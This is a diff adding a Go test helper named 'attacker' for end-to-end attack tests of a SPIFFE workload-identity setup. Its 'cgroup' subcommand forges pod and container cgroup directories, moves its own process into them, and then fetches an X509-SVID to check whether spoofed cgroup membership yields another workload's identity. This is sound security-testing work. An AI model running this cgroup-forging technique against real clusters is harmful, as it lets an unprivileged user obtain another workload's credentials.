@@ -1,0 +1,71 @@
+// Command attacker is what an unprivileged local user runs in the attack
+// tests of e2e/attack. Each subcommand is one attack; it prints one JSON
+// line saying what it got.
+//
+//	attacker cgroup SOCKET POD-UID CONTAINER-ID DIR...
+//
+// moves itself into DIR/pod<POD-UID>/<CONTAINER-ID> of each delegated
+// cgroup directory DIR (one per hierarchy), then asks the Workload API for
+// an X509-SVID.
+package main
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strconv"
+	"time"
+
+	"github.com/spiffe/go-spiffe/v2/workloadapi"
+)
+
+type result struct {
+	SPIFFEID string `json:"spiffe_id,omitempty"`
+	Error    string `json:"error,omitempty"`
+}
+
+func main() {
+	if len(os.Args) < 2 {
+		fail(fmt.Errorf("usage: attacker cgroup|... ARGS"))
+	}
+	var r result
+	switch os.Args[1] {
+	case "cgroup":
+		r = forgeCgroup(os.Args[2], os.Args[3], os.Args[4], os.Args[5:])
+	default:
+		fail(fmt.Errorf("unknown attack %q", os.Args[1]))
+	}
+	json.NewEncoder(os.Stdout).Encode(r)
+}
+
+func fail(err error) {
+	fmt.Fprintln(os.Stderr, "attacker:", err)
+	os.Exit(2)
+}
+
+func forgeCgroup(socket, podUID, containerID string, dirs []string) result {
+	for _, d := range dirs {
+		forged := filepath.Join(d, "pod"+podUID, containerID)
+		if err := os.MkdirAll(forged, 0o755); err != nil {
+			fail(err)
+		}
+		if err := os.WriteFile(filepath.Join(forged, "cgroup.procs"), []byte(strconv.Itoa(os.Getpid())), 0); err != nil {
+			fail(fmt.Errorf("moving into %s: %w", forged, err))
+		}
+	}
+	cg, _ := os.ReadFile("/proc/self/cgroup")
+	fmt.Fprintf(os.Stderr, "attacker: uid %d, now in:\n%s", os.Getuid(), cg)
+	return fetch(socket)
+}
+
+func fetch(socket string) result {
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+	defer cancel()
+	svid, err := workloadapi.FetchX509SVID(ctx, workloadapi.WithAddr("unix://"+socket))
+	if err != nil {
+		return result{Error: err.Error()}
+	}
+	return result{SPIFFEID: svid.ID.String()}
+}
